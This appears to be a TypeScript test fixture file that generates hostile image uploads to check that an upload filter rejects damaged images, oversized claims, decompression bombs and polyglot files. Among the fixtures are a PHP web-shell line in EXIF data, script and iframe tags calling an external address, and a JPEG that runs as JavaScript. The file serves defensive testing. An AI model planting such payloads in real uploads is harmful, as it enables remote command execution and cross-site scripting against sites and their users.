import { deflateSync } from 'node:zlib';
import type { HostileUpload } from './hostile';
import { aJpeg, aNoisyPicture, aPicture, aWebp, withClaimedSize, withSegment } from './picture';
import { aBomb, aPng, chunk } from './png';
import { aJar, aZip } from './zip';

const half = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length >> 1);
const then = async (picture: Promise<Buffer> | Buffer, more: Buffer | string): Promise<Buffer> =>
  Buffer.concat([await picture, Buffer.isBuffer(more) ? more : Buffer.from(more, 'latin1')]);
const COMMENT = 0xfe;
const EXIF = 0xe1;

const commented = async (words: string) => withSegment(await aJpeg(), COMMENT, Buffer.from(words, 'latin1'));

/** A picture of 16383 × 16383 pixels, which is the most a WebP can claim. */
const aHugeWebp = async (): Promise<Buffer> => {
  const webp = Buffer.from(await aPicture().webp({ lossless: true }).toBuffer());
  // the first 28 bits after the signature byte are width − 1 and height − 1
  webp.writeUInt32LE(((webp.readUInt32LE(21) & 0xf0000000) | (16_382 << 14) | 16_382) >>> 0, 21);
  return webp;
};

/** A script that passes for a picture: the length of the first segment is the beginning of a comment. */
const aScriptedJpeg = async (): Promise<Buffer> => {
  const jpeg = await aJpeg();
  const length = 0x2f2a;
  const segment = Buffer.alloc(length - 2, 0x20);
  segment.write('JFIF\0\x01\x01', 'latin1');
  segment.write('*/=alert(1);/*', 16, 'latin1');
  return Buffer.concat([bytesOf('ffd8ffe02f2a'), segment, jpeg.subarray(2)]);
};

/** A tar whose first file is called like the beginning of a PNG. */
const aPngTar = (): Buffer => {
  const png = aPng({ extra: [chunk('teSt', Buffer.alloc(600, 0x20))] });
  png.write('ustar\x0000', 257, 'latin1');
  return png;
};

const bytesOf = (hex: string) => Buffer.from(hex, 'hex');

export const hostilePictures: readonly HostileUpload[] = [
  ['half of a JPEG', 'image-damaged', async () => half(await aNoisyPicture().jpeg().toBuffer())],
  [
    'half of a progressive JPEG',
    'image-damaged',
    async () => half(await aNoisyPicture().jpeg({ progressive: true }).toBuffer()),
  ],
  ['half of a PNG', 'image-damaged', async () => half(await aNoisyPicture().png().toBuffer())],
  ['half of a WebP', 'image-damaged', async () => half(await aNoisyPicture().webp().toBuffer())],
  [
    'the beginning of a JPEG and zeros',
    'image-damaged',
    () => Buffer.concat([bytesOf('ffd8ffe000104a4649460001'), Buffer.alloc(4096)]),
  ],
  ['the first four bytes of a JPEG', 'image-damaged', () => bytesOf('ffd8ffe0')],
  ['a PNG with a wrong checksum', 'image-damaged', () => spoilt(aPng(), -20)],
  ['a PNG without pixels', 'image-damaged', () => aPng({ packed: Buffer.alloc(0) })],
  ['a PNG without a side', 'image-damaged', () => aPng({ width: 0, rows: Buffer.alloc(9) })],
  ['a PNG with fewer pixels than it says', 'image-damaged', () => aPng({ height: 64, rows: Buffer.alloc(9 * 8) })],
  ['a WebP of nothing but its header', 'image-damaged', () => Buffer.from('RIFF\x0c\0\0\0WEBPVP8 ', 'latin1')],

  [
    'a PNG of 60 000 × 60 000 black pixels',
    'image-too-large',
    () => aPng({ width: 60_000, height: 60_000, depth: 1, rows: Buffer.alloc(60_000) }),
  ],
  [
    'a PNG of 12 000 × 12 000 pixels that are really there',
    'image-too-large',
    () => aPng({ width: 12_000, height: 12_000, depth: 1 }),
  ],
  [
    'a PNG four milliards of pixels wide',
    'image-damaged',
    () => aPng({ width: 0xffffffff, height: 1, rows: Buffer.alloc(9) }),
  ],
  [
    'a JPEG that claims 65 000 × 65 000 pixels',
    'image-too-large',
    async () => withClaimedSize(await aJpeg(), 65_000, 65_000),
  ],
  ['a WebP that claims 16 383 × 16 383 pixels', 'image-too-large', aHugeWebp],
  ['a small PNG whose pixels unpack to 200 MB', 'image-bomb', () => aPng({ packed: aBomb(200) })],
  [
    'a PNG with a caption of 64 MB',
    'image-bomb',
    () => aPng({ extra: [chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), aBomb(64)]))] }),
  ],
  [
    'a PNG with a translated caption of 64 MB',
    'image-bomb',
    () => aPng({ extra: [chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0ru\0\0'), aBomb(64)]))] }),
  ],
  [
    'a PNG with a colour profile of 64 MB',
    'image-bomb',
    () => aPng({ extra: [chunk('iCCP', Buffer.concat([Buffer.from('sRGB\0\0'), aBomb(64)]))] }),
  ],

  ['a JPEG with a ZIP after it', 'file-two-in-one', () => then(aJpeg(), aZip({ 'a.txt': 'hidden' }))],
  ['a JPEG with a JAR after it', 'file-two-in-one', () => then(aJpeg(), aJar())],
  ['a JPEG inside the comment of a ZIP', 'file-two-in-one', async () => aZipAround(await aJpeg())],
  ['a JPEG with a RAR after it', 'file-two-in-one', () => then(aJpeg(), 'Rar!\x1a\x07\x01\0payload')],
  ['a JPEG with a 7z after it', 'file-two-in-one', () => then(aJpeg(), '7z\xbc\xaf\x27\x1c\0\x04payload')],
  ['a JPEG with a web page after it', 'file-two-in-one', () => then(aJpeg(), '<html><body onload=alert(1)>')],
  ['a JPEG with a script in its comment', 'file-two-in-one', () => commented('<script>alert(1)</script>')],
  ['a JPEG with a script in capitals', 'file-two-in-one', () => commented('<SCRIPT SRC=//203.0.113.1></SCRIPT>')],
  [
    'a JPEG with PHP among the data of the shot',
    'file-two-in-one',
    async () => withSegment(await aJpeg(), EXIF, Buffer.from('Exif\0\0<?php system($_GET["c"]); ?>')),
  ],
  ['a JPEG that is an archive of PHP', 'file-two-in-one', () => commented('<?PHP __HALT_COMPILER(); ?>\r\n')],
  ['a JPEG that readers of PDF open', 'file-two-in-one', () => commented('%PDF-1.7\n1 0 obj<<>>endobj')],
  ['a JPEG that runs as a script', 'file-two-in-one', aScriptedJpeg],
  ['a PNG with a ZIP after it', 'file-two-in-one', () => then(aPng(), aZip({ 'a.txt': 'hidden' }))],
  [
    'a PNG with a frame of a web page',
    'file-two-in-one',
    () => aPng({ extra: [chunk('tEXt', Buffer.from('Comment\0<iframe src=//203.0.113.1>'))] }),
  ],
  ['a PNG that is a tar', 'file-two-in-one', aPngTar],
  ['a WebP with a JAR after it', 'file-two-in-one', () => then(aWebp(), aJar())],
  [
    'a WebP with a second kind of bytes after packed noise',
    'file-two-in-one',
    () => then(aWebp(), Buffer.concat([deflateSync('noise'), aJar()])),
  ],
];

function spoilt(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt8((copy.at(at) ?? 0) ^ 0xff, copy.length + at);
  return copy;
}

/** The archive's own files stand in a segment of the picture, the rest of the picture in the archive's comment. */
function aZipAround(jpeg: Buffer): Buffer {
  const tail = jpeg.subarray(2);
  return withSegment(jpeg, COMMENT, aZip({ 'a.txt': 'hidden' }, tail).subarray(0, -tail.length));
}
